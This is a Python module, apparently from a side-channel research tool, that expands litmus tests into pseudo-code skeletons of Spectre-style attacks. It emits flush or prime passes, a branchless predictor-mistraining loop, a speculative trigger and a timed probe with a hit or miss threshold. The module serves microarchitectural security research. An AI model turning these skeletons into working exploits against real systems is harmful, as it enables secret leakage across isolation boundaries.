"""Expand an abstract litmus test into a full attack-program skeleton.

The skeleton follows the classic driver structure: a prime (or flush) pass
over a 256-slot probe array, a training loop that alternates in-bounds and
malicious indices without branching, the litmus test's speculative window as
the trigger, and a timed probe pass with a scrambled visit order and a
threshold classifier.  Prime-family tests expand to two threads with a flag
handshake between trigger and probe.

Output is neutral pseudo-code, not compilable source: users port it to their
ISA and runtime the same way the published proof-of-concept drivers were
ported.
"""

from dataclasses import dataclass, field

PHASES = ("PRIME", "TRAIN", "TRIGGER", "PROBE")

# default probe-order scrambling constants; any (mul, add) with odd mul is a
# bijection mod 256
PROBE_MUL = 167
PROBE_ADD = 13
TRAIN_ITERATIONS = 30
PROBE_SLOTS = 256


@dataclass(frozen=True)
class CacheGeometry:
    line_size: int
    num_sets: int
    associativity: int = 8
    inclusive: bool = True

    def validate(self):
        for f in ("line_size", "num_sets", "associativity"):
            if getattr(self, f) < 1:
                raise ValueError(f"{f} must be >= 1")
        if self.line_size & (self.line_size - 1):
            raise ValueError("line_size must be a power of two")


@dataclass(frozen=True)
class AttackSkeleton:
    variant: str
    geometry: CacheGeometry
    stride: int
    two_threads: bool
    phase_of: tuple        # (instruction id, phase) for every litmus instruction
    phase_lines: tuple     # (phase, tuple of text lines)
    shared_lines: tuple
    probe_mul: int = PROBE_MUL
    probe_add: int = PROBE_ADD

    def instructions_in(self, phase):
        return [iid for iid, ph in self.phase_of if ph == phase]


class ExpansionError(ValueError):
    pass


def probe_permutation(mul: int = PROBE_MUL, add: int = PROBE_ADD):
    """The scrambled probe visit order; a bijection on 0..255 for odd mul."""
    return [((i * mul) + add) & (PROBE_SLOTS - 1) for i in range(PROBE_SLOTS)]


def expand(test, variant: str, geom: CacheGeometry, stride: int = None,
           probe_mul: int = PROBE_MUL, probe_add: int = PROBE_ADD) -> AttackSkeleton:
    """Map a role-annotated litmus test onto the attack driver skeleton."""
    geom.validate()
    if stride is None:
        stride = geom.line_size * 8
    if stride < geom.line_size:
        raise ExpansionError(f"stride {stride} smaller than line size {geom.line_size}")
    roles = dict(test.roles)
    if not roles:
        raise ExpansionError("litmus test carries no pattern role annotation")
    prime_family = "probe" in roles
    if prime_family:
        setup_id = roles.get("prime")
        timed_id = roles.get("probe")
    else:
        setup_id = roles.get("evict")
        timed_id = roles.get("reload")
    if timed_id is None:
        raise ExpansionError("litmus test lacks a timed access role")

    phase_of = {}
    if setup_id is not None:
        phase_of[setup_id] = "PRIME"
    phase_of[timed_id] = "PROBE"
    branch_id = None
    for i in test.instructions():
        if i.id in phase_of:
            continue
        if i.opcode == "Branch" and _guards_window(test, i):
            branch_id = i.id
        phase_of[i.id] = "TRIGGER"

    shared = _shared_lines(test, stride)
    lines = {
        "PRIME": _prime_lines(test, setup_id, stride, prime_family),
        "TRAIN": _train_lines(test, branch_id),
        "TRIGGER": _trigger_lines(test, phase_of, prime_family),
        "PROBE": _probe_lines(test, timed_id, stride, prime_family,
                              probe_mul, probe_add),
    }
    return AttackSkeleton(
        variant=variant,
        geometry=geom,
        stride=stride,
        two_threads=prime_family,
        phase_of=tuple(sorted(phase_of.items())),
        phase_lines=tuple((ph, tuple(lines[ph])) for ph in PHASES),
        shared_lines=tuple(shared),
        probe_mul=probe_mul,
        probe_add=probe_add,
    )


def _guards_window(test, branch):
    return any(i.speculative_under == branch.id for i in test.instructions())


def _shared_lines(test, stride):
    out = [
        f"victim_array: byte[16]                      # bounds-checked source array",
        f"probe_array:  byte[{PROBE_SLOTS} * {stride}]            # one slot per secret byte value",
        f"results:      int[{PROBE_SLOTS}] = 0",
    ]
    if test.secret_paddr is not None:
        out.append(f"secret:       at physical address {test.secret_paddr}")
    for v, p, s in test.address_map.entries:
        out.append(f"addr {v}: physical {p}, cache set {s}")
    return out


def _prime_lines(test, setup_id, stride, prime_family):
    out = []
    if prime_family:
        out.append(f"for slot in 0..{PROBE_SLOTS - 1}:")
        out.append(f"    touch probe_array[slot * {stride}]           # fill every probe line")
        if setup_id is not None:
            out.append(f"# litmus i{setup_id} ({_brief(test, setup_id)}) is the primed access")
    else:
        out.append(f"for slot in 0..{PROBE_SLOTS - 1}:")
        out.append(f"    flush probe_array[slot * {stride}]           # evict every probe line")
        if setup_id is not None:
            out.append(f"# litmus i{setup_id} ({_brief(test, setup_id)}) is the evicting access")
    return out


def _train_lines(test, branch_id):
    out = [
        f"training_x = in_bounds_index",
        f"for j in {TRAIN_ITERATIONS - 1}..0:",
        "    flush &victim_array_size                 # keep the bounds check slow",
        "    delay()",
        "    # bit twiddling: x = training_x when j % 6 != 0, else malicious_x;",
        "    # avoids a jump that would tip off the branch predictor",
        "    x = ((j % 6) - 1) & ~0xFFFF",
        "    x = (x | (x >> 16))",
        "    x = training_x ^ (x & (malicious_x ^ training_x))",
        "    call victim(x)",
    ]
    if branch_id is not None:
        out.append(f"# trains the predictor for litmus i{branch_id} ({_brief(test, branch_id)})")
    else:
        out.append("# no branch to train: the window opens on a faulting access;")
        out.append("# the loop still massages x to the malicious index")
    return out


def _trigger_lines(test, phase_of, prime_family):
    out = []
    for t in test.threads:
        for i in t.instructions:
            if phase_of.get(i.id) != "TRIGGER":
                continue
            out.append(f"{_pseudo(test, i)}    # i{i.id}: {_brief(test, i.id)}")
    if prime_family:
        out.append("flag = 1                                     # trigger done; release the prober")
    return out


def _probe_lines(test, timed_id, stride, prime_family, mul, add):
    out = []
    if prime_family:
        out.append("wait until flag == 1                         # handshake with the trigger thread")
    out.append(f"for i in 0..{PROBE_SLOTS - 1}:")
    out.append(f"    mix_i = ((i * {mul}) + {add}) & {PROBE_SLOTS - 1}     # scrambled visit order")
    out.append(f"    t0 = read_timer()")
    out.append(f"    junk = probe_array[mix_i * {stride}]         # timed access (litmus i{timed_id})")
    out.append(f"    dt = read_timer() - t0")
    if prime_family:
        out.append("    if dt >= threshold: results[mix_i] += 1  # miss: this slot was invalidated")
    else:
        out.append("    if dt < threshold: results[mix_i] += 1   # hit: this slot was reloaded")
    return out


def _brief(test, iid):
    return test.instruction(iid).brief()


def _pseudo(test, i):
    if i.opcode == "Read":
        return f"speculative load {i.vaddr}" if i.squashed else f"load {i.vaddr}"
    if i.opcode == "Write":
        return f"speculative store {i.vaddr}" if i.squashed else f"store {i.vaddr}"
    if i.opcode == "Flush":
        return f"flush {i.vaddr}"
    if i.opcode == "Fence":
        return "fence                                     # mfence/lfence both work here"
    if i.opcode == "Branch":
        return "if (x < victim_array_size):              # mispredicted on the final call"
    return i.opcode


def render_skeleton(sk: AttackSkeleton) -> str:
    """Deterministic text with every phase exactly once, in order."""
    geo = sk.geometry
    head = [
        f"attack skeleton: {sk.variant}",
        f"geometry: line_size={geo.line_size} sets={geo.num_sets} "
        f"ways={geo.associativity} {'inclusive' if geo.inclusive else 'noninclusive'}",
        f"probe array: {PROBE_SLOTS} slots x {sk.stride} bytes stride",
        f"threads: {'2 (timing + trigger)' if sk.two_threads else '1'}",
        "",
        "shared:",
    ]
    out = list(head)
    out.extend("  " + l for l in sk.shared_lines)
    out.append("")
    thread_of = {"PRIME": "timing", "TRAIN": "trigger", "TRIGGER": "trigger",
                 "PROBE": "timing"} if sk.two_threads else {}
    for phase, lines in sk.phase_lines:
        marker = f"== {phase} =="
        if sk.two_threads:
            marker += f"  (thread: {thread_of[phase]})"
        out.append(marker)
        out.extend("  " + l for l in lines)
        out.append("")
    return "\n".join(out)
